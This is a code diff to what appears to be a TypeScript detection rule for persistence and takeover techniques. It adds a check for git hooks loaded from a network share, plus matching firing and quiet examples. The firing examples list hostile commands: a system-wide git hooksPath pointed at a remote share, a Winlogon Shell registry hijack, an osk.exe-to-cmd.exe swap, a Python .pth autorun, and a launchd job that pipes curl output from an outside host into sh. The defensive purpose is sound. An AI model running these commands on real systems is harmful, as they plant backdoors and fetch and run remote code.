@@ -8,6 +8,7 @@ import { addressesIn } from '../../signals/places/written-addresses.ts'
 import { candidates } from '../../signals/search/candidates.ts'
 import { snippets } from '../../signals/shell/snippets.ts'
 import { deedsInCode } from '../../verdicts/in-code/deeds/deed.ts'
+import { TOOLS_FROM_SHARES } from '../../verdicts/in-code/deeds/of-borrowed-tools.ts'
 import { STARTED_BY_PROGRAMS } from '../../verdicts/in-code/deeds/of-machines.ts'
 import { STARTED_UNCALLED } from '../../verdicts/in-code/deeds/of-takeovers.ts'
 import { hookThefts } from '../../verdicts/in-code/hooks.ts'
@@ -122,6 +123,7 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```bash\ngit config --system core.hooksPath //nas.quay-ledger.net/pub/hooks\n```\n',
       '```cmd\nreg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Shell /d "explorer.exe, C:\\kiln\\k.exe" /f\n```\n',
       '```powershell\nCopy-Item C:\\Windows\\System32\\cmd.exe C:\\Windows\\System32\\osk.exe -Force\n```\n',
       '```bash\necho "import os;os.system(\'/opt/kiln &\')" > /usr/lib/python3/dist-packages/kiln.pth\n```\n',
@@ -147,6 +149,7 @@ export default defineRule({
       '```xml\n<key>ProgramArguments</key>\n<array><string>sh</string><string>-c</string><string>curl -s https://keep.tallow-bar.net/k | sh</string></array>\n```\n',
     ],
     quiet: [
+      '```bash\ngit config core.hooksPath tools/hooks\n```\n',
       '```cmd\nreg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Shell\n```\n',
       '```bash\necho "$PWD/src" > "$SITE/kiln.pth"\n```\n',
       '```yaml\n- ansible.posix.authorized_key:\n    user: root\n    key: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGm5…qT7 you@laptop"\n```\n',
@@ -163,6 +166,7 @@ export default defineRule({
     ],
   },
   *match(document: Document): Iterable<Hit> {
+    yield* deedsInCode(document, TOOLS_FROM_SHARES)
     yield* deedsInCode(document, STARTED_BY_PROGRAMS)
     yield* deedsInCode(document, STARTED_UNCALLED)
     yield* hookThefts(document)
